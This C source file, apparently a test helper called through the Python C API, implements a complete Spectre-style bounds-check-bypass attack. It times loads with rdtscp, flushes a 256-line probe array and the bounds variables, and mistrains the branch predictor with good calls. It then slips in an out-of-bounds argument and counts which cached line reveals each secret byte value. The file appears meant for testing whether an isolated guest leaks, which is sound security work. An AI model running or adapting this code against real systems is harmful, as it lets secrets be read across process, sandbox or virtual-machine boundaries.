/* What a guest does with timers and eviction buffers, done better: flushing lines, timing loads. For tests only. */
#include <stdint.h>
#include <x86intrin.h>

extern void *PyObject_CallOneArg(void *callable, void *argument);
extern void Py_DecRef(void *object);

static unsigned long load_time(volatile uint8_t *p) {
    unsigned aux;
    _mm_mfence();
    _mm_lfence();
    unsigned long begin = __rdtscp(&aux);
    _mm_lfence();
    (void)*p;
    _mm_lfence();
    return __rdtscp(&aux) - begin;
}

/* Median-ish: the least of many. */
unsigned long least_time(volatile uint8_t *p, int cached) {
    unsigned long least = ~0ul;
    for (int i = 0; i < 1000; i++) {
        if (cached)
            (void)*p;
        else
            _mm_clflush((void *)p);
        unsigned long t = load_time(p);
        least = t < least ? t : least;
    }
    return least;
}

/* The victim is called with good numbers and, at random, one time in eight with the bad one, until that has been done
   ``rounds`` times. Counts for each value of the secret how often its line was there afterwards. */
void attack(void *victim, void **good, int goods, void *bad, uint8_t *limit, uint8_t *bound, uint8_t *lines, int stride,
            int rounds, unsigned long threshold, uint32_t *hits) {
    uint64_t chance = 88172645463325252u;
    while (rounds > 0) {
        chance ^= chance << 13;
        chance ^= chance >> 7;
        chance ^= chance << 17;
        for (int i = 0; i < 256; i++)
            _mm_clflush(lines + (uint64_t)i * stride);
        /* Without a branch, so that nothing tells one turn from another. */
        uintptr_t is_bad = (uintptr_t)0 - (uintptr_t)((chance >> 20 & 7) == 0);
        uintptr_t chosen = ((uintptr_t)good[(chance >> 32) % goods] & ~is_bad) | ((uintptr_t)bad & is_bad);
        _mm_clflush(limit);
        _mm_clflush(bound);
        _mm_mfence();
        /* So many equal branches that a predictor remembers nothing else. */
        for (volatile int wait = 0; wait < 500; wait++) {
        }
        void *result = PyObject_CallOneArg(victim, (void *)chosen);
        if (!result)
            return;
        Py_DecRef(result);
        if (!is_bad)
            continue;
        rounds--;
        for (int i = 0; i < 256; i++) {
            int line = (i * 167 + 13) & 255;
            if (load_time(lines + (uint64_t)line * stride) <= threshold)
                hits[line]++;
        }
    }
}
